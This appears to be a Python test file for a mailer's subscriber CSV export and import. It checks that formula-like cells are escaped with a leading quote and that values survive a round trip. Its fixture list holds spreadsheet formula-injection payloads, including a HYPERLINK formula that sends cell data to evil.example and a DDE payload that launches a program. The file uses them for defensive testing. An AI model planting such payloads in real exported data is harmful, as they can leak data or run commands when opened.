"""CSV files we write are safe to open in a spreadsheet and read back as they were."""

from __future__ import annotations

import csv
import itertools
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from mailer.addresses import clean_name
from mailer.storage import Database, Subscriber, open_database
from mailer.subscribers.csv_cells import escape_cell, unescape_cell
from mailer.subscribers.export import export_list
from mailer.subscribers.importer import import_file, rejected_path
from mailer.subscribers.lists import create_list
from mailer.subscribers.subscriptions import add_subscriber

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "@SUM(1)",
    "-1+1",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *((v, "'" + v) for v in HOSTILE),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        ("'tis", "'tis"),
        ("'", "'"),
        ("", ""),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
    ],
)
def test_escape_and_unescape(value: str, cell: str) -> None:
    assert escape_cell(value) == cell
    assert unescape_cell(cell) == value


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_an_export_neutralises_formulas_and_reads_back(db: Database, tmp_path: Path) -> None:
    with db.session() as session:
        create_list(session, "news")
        create_list(session, "copy")
        for n, name in enumerate(HOSTILE):
            add_subscriber(session, f"p{n}@example.org", "news", name=name, tags=["=tag"])
        add_subscriber(session, "=x@example.org", "news", name="'=quoted")
    out = tmp_path / "news.csv"
    export_list_count = 0
    with db.session() as session:
        export_list_count = export_list(session, "news", out)
    assert export_list_count == len(HOSTILE) + 1
    for row in _cells(out)[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    import_file(db, out, "copy")
    with db.session() as session:
        names = {s.email: s.name for s in session.scalars(select(Subscriber))}
        tags = {s.email: s.tags for s in session.scalars(select(Subscriber))}
    assert names["=x@example.org"] == "'=quoted"
    for n, name in enumerate(HOSTILE):
        assert names[f"p{n}@example.org"] == name
        assert tags[f"p{n}@example.org"] == ["=tag"]


def test_the_rejected_rows_file_is_escaped_and_reads_back(db: Database, tmp_path: Path) -> None:
    with db.session() as session:
        create_list(session, "news")
    source = tmp_path / "in.csv"
    source.write_text(f'email,name\nnot-an-address,"{HOSTILE[0].replace(chr(34), 2 * chr(34))}"\n')
    summary = import_file(db, source, "news")
    assert summary.rejected == 1
    rows = _cells(rejected_path(source))
    assert rows[1][3] == "'" + HOSTILE[0]
    # Mended, the rejected file imports the name as it was.
    mended = tmp_path / "mended.csv"
    mended.write_text(
        rejected_path(source).read_text().replace("not-an-address", "ann@example.org")
    )
    import_file(db, mended, "news")
    with db.session() as session:
        person = session.scalars(select(Subscriber)).one()
    assert person.name == HOSTILE[0]


# Round trip, export to import, on arbitrary values.

_counter = itertools.count()
_danger = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''+", "'@", "\t"])
_plain = st.text(st.characters(exclude_categories=("Cs",)), max_size=30)
_value = st.builds(lambda a, b: a + b, _danger, _plain)
_name = _value.map(clean_name)
_attributes = st.dictionaries(
    st.builds(lambda a, b: a + b, _danger, st.text(min_size=1, max_size=10)),
    st.one_of(_value, st.integers(-(2**63), 2**63 - 1), st.lists(_value, max_size=3)),
    max_size=4,
)
_tag = st.builds(
    lambda a, b: (a + b).strip(),
    _danger,
    st.text(st.characters(exclude_categories=("Cs", "Cc"), exclude_characters=',"'), max_size=10),
).filter(bool)


@pytest.fixture(scope="module")
def two_databases(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Database, Database]]:
    folder = tmp_path_factory.mktemp("roundtrip")
    first = open_database(f"sqlite:///{folder}/a.db")
    second = open_database(f"sqlite:///{folder}/b.db")
    yield first, second
    first.close()
    second.close()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    people=st.lists(
        st.tuples(_name, _attributes, st.lists(_tag, max_size=3)), min_size=1, max_size=8
    ),
    prefix=st.sampled_from(["", "=", "-", "+"]),
)
def test_export_then_import_gives_back_the_same_values(
    two_databases: tuple[Database, Database],
    tmp_path_factory: pytest.TempPathFactory,
    people: list[tuple[str, dict[str, object], list[str]]],
    prefix: str,
) -> None:
    source, target = two_databases
    list_name = f"l{next(_counter)}"
    for database in (source, target):
        with database.session() as session:
            create_list(session, list_name)
    with source.session() as session:
        for n, (name, attributes, tags) in enumerate(people):
            add_subscriber(
                session,
                f"{prefix}{list_name}.{n}@example.org",
                list_name,
                name=name,
                attributes=attributes,
                tags=tags,
            )
    out = tmp_path_factory.mktemp("export") / "out.csv"
    with source.session() as session:
        export_list(session, list_name, out)
    summary = import_file(target, out, list_name)
    assert summary.rejected == 0

    def stored(database: Database) -> dict[str, tuple[str, str, list[str]]]:
        with database.session() as session:
            return {
                s.email: (s.name, json.dumps(s.attributes, sort_keys=True), sorted(s.tags))
                for s in session.scalars(
                    select(Subscriber).where(Subscriber.email.like(f"{prefix}{list_name}.%"))
                )
            }

    assert stored(target) == stored(source)


def test_an_address_valid_only_with_its_quote_keeps_it(db: Database, tmp_path: Path) -> None:
    # Hypothesis found it: '@a.ac is a valid address (its local part is a quote), which
    # taking the quote away would make invalid. No valid address begins with an @, so
    # it was not our escape.
    with db.session() as session:
        create_list(session, "news")
    source = tmp_path / "in.csv"
    source.write_text("email\n'@a.ac\n'-x@example.org\n")
    summary = import_file(db, source, "news")
    assert (summary.imported, summary.rejected) == (2, 0)
    with db.session() as session:
        emails = sorted(s.email for s in session.scalars(select(Subscriber)))
    assert emails == ["'@a.ac", "-x@example.org"]
